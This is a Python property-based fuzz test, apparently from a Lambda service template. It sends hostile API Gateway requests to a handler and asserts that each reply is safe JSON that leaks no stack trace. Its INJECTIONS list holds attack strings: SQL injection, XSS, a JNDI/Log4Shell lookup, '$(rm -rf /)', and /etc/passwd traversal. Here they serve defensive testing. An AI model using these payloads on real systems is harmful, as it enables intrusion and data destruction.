"""Hostile input: whatever a client sends, the handler answers with a JSON body and never a 500.

Hypothesis throws arbitrary methods, paths, headers, query strings and bodies at the handler in
API Gateway REST proxy form: oversized bodies, invalid UTF-8, base64 flags that lie, deeply nested
JSON and injection strings included. Every response must be below 500, a JSON object, carry the
request's correlation id, and show no stack trace, file path or exception text. Runs derandomized
and without an example database, so CI sees the same cases every time.
"""

from __future__ import annotations

import base64
import json
import os
import string
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import hypothesis
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from {{ cookiecutter.package_name }}.handlers import api
from lambda_service_runtime.observability import logger

from tests.runtime_environment import TEST_ENVIRONMENT
from tests.unit.conftest import header
from lambda_service_kit.testing.events import FakeLambdaContext, rest_event

Invoke = Callable[[dict[str, Any]], dict[str, Any]]

EXAMPLES = 2000
MAX_BODY_BYTES = int(TEST_ENVIRONMENT["MAX_BODY_BYTES"])
EXPECTED_STATUSES = {200, 201, 400, 404, 413, 415, 422}
# Text that would reveal the implementation; it may appear in a response only if the client sent it.
LEAKS = ("Traceback", 'File "', ".py", "site-packages", "/var/task", "Exception", "Error:", "pydantic", "line ")
INJECTIONS = (
    "' OR '1'='1' --",
    "'; DROP TABLE greetings; --",
    "<script>alert(1)</script>",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://example.invalid/a}",
    "$(rm -rf /)",
    "`id`",
    "../../../../etc/passwd",
    "%00",
    "\x00",
    "\ud800",
    "\u202e\u0000\uffff",
    '{"$where": "sleep(1000)"}',
    "__proto__",
    "A" * 300,
)

json_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30)
json_values = st.recursive(
    json_scalars | st.sampled_from(INJECTIONS),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4),
    max_leaves=12,
)
greeting_like = st.fixed_dictionaries(
    {"name": st.one_of(st.text(max_size=120), st.sampled_from(INJECTIONS), json_values)},
    optional={"language": st.one_of(st.sampled_from(["en", "fr", "es", "de", "xx", ""]), json_values)},
)
text_bodies = st.one_of(
    st.text(max_size=200),
    st.sampled_from(INJECTIONS),
    json_values.map(json.dumps),
    greeting_like.map(json.dumps),
    # Oversized: built from a length so Hypothesis need not draw every character.
    st.integers(MAX_BODY_BYTES - 2, MAX_BODY_BYTES * 3).map(lambda size: json.dumps({"name": "a" * size})),
    # Deeply nested JSON, past any parser's comfortable recursion depth.
    st.integers(100, 5000).map(lambda depth: "[" * depth + "]" * depth),
    st.integers(100, 5000).map(lambda depth: '{"name":' * depth + '"x"' + "}" * depth),
)
binary_bodies = st.one_of(
    st.binary(max_size=200),
    # Invalid UTF-8 inside otherwise valid JSON.
    st.binary(min_size=1, max_size=20).map(lambda raw: b'{"name": "' + raw + b'"}'),
    greeting_like.map(lambda body: json.dumps(body).encode("utf-16")),
)
content_types = st.one_of(
    st.none(),
    st.sampled_from(
        [
            "application/json",
            "APPLICATION/JSON; charset=utf-8",
            "application/json; charset=utf-16",
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            ";",
            "",
        ]
    ),
    st.text(max_size=40),
)
header_names = st.text(alphabet=string.ascii_letters + string.digits + "-_", min_size=1, max_size=20)
methods = st.sampled_from(
    ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "get", "post", "TRACE"]
) | st.text(max_size=10)
paths = st.sampled_from(
    ["/greetings", "/health", "/greetings/", "/GREETINGS", "//greetings", "/greetings/../health", "/", "", "/%2e%2e/"]
) | st.text(max_size=60).map(lambda path: "/" + path)
# Most requests aim at real routes, so bodies reach the parser; the rest probe the router.
targets = st.one_of(
    st.just(("POST", "/greetings")),
    st.just(("POST", "/greetings")),
    st.just(("GET", "/health")),
    st.tuples(methods, paths),
)
queries = st.none() | st.dictionaries(
    st.text(max_size=15), st.lists(st.text(max_size=30), min_size=1, max_size=3), max_size=4
)


@pytest.fixture(scope="module")
def invoke_quietly() -> Iterator[Invoke]:
    """The handler, with its log lines discarded: thousands of rejected requests log thousands of lines."""
    with open(os.devnull, "w", encoding="utf-8") as devnull:
        previous = logger.registered_handler.setStream(devnull)
        try:
            yield lambda event: api.handler(event, FakeLambdaContext())
        finally:
            logger.registered_handler.setStream(previous)


@st.composite
def hostile_events(draw: st.DrawFn) -> dict[str, Any]:
    headers = draw(st.dictionaries(header_names, st.text(max_size=60), max_size=5))
    content_type = draw(content_types)
    if content_type is not None:
        headers[draw(st.sampled_from(["Content-Type", "content-type", "CONTENT-TYPE"]))] = content_type
    body: str | bytes | None = draw(st.none() | text_bodies | binary_bodies)
    method, path = draw(targets)
    event = rest_event(
        method,
        path,
        body=body,
        headers=headers,
        query=draw(queries),
        request_id=str(uuid.UUID(int=draw(st.integers(0, 2**128 - 1)))),
    )
    if isinstance(body, str) and draw(st.booleans()):
        event["isBase64Encoded"] = True  # the flag lies: the body is plain text
    if isinstance(body, bytes) and draw(st.booleans()):
        event["isBase64Encoded"] = False  # the flag lies: the body is base64 text
    if draw(st.booleans()):
        event["headers"] = None if not headers else event["headers"]
        event["multiValueHeaders"] = None if not headers else event["multiValueHeaders"]
    return event


def assert_safe_response(event: dict[str, Any], response: dict[str, Any]) -> None:
    request_id = event["requestContext"]["requestId"]
    status = response["statusCode"]
    assert status in EXPECTED_STATUSES, f"unexpected status {status}: {response.get('body')!r}"
    body = json.loads(response["body"])
    assert isinstance(body, dict)
    assert header(response, "X-Correlation-Id") == request_id
    if status >= 400:
        assert body["correlationId"] == request_id
        assert body["status"] == status
        assert header(response, "Content-Type") == "application/problem+json"
    sent = json.dumps(event)
    for leak in LEAKS:
        assert leak not in response["body"] or json.dumps(leak)[1:-1] in sent, f"response reveals {leak!r}"


@settings(
    max_examples=EXAMPLES,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(event=hostile_events())
def test_hostile_requests_get_safe_json_answers(invoke_quietly: Invoke, event: dict[str, Any]) -> None:
    response = invoke_quietly(event)
    hypothesis.event(f"status {response['statusCode']}")  # pytest --hypothesis-show-statistics lists them
    assert_safe_response(event, response)


def test_a_base64_body_of_invalid_utf8_json_is_a_client_error(invoke_quietly: Invoke) -> None:
    event = rest_event(
        "POST", "/greetings", body=base64.b64encode(b'{"name": "\xc3\x28"}').decode(), base64_encoded=True
    )

    response = invoke_quietly(event)

    assert response["statusCode"] == 400
    assert_safe_response(event, response)


@pytest.mark.parametrize(
    ("body", "base64_encoded", "detail"),
    [
        pytest.param('{"name": "\udcff"}', False, "The body is not valid UTF-8.", id="lone-surrogate"),
        pytest.param("not base64!", True, "The body is flagged as base64 but is not valid base64.", id="lying-flag"),
    ],
)
def test_undecodable_bodies_are_named_for_what_is_wrong(
    invoke_quietly: Invoke, body: str, base64_encoded: bool, detail: str
) -> None:
    event = rest_event("POST", "/greetings", body=body, base64_encoded=base64_encoded)

    response = invoke_quietly(event)

    assert response["statusCode"] == 400
    assert json.loads(response["body"])["detail"] == detail
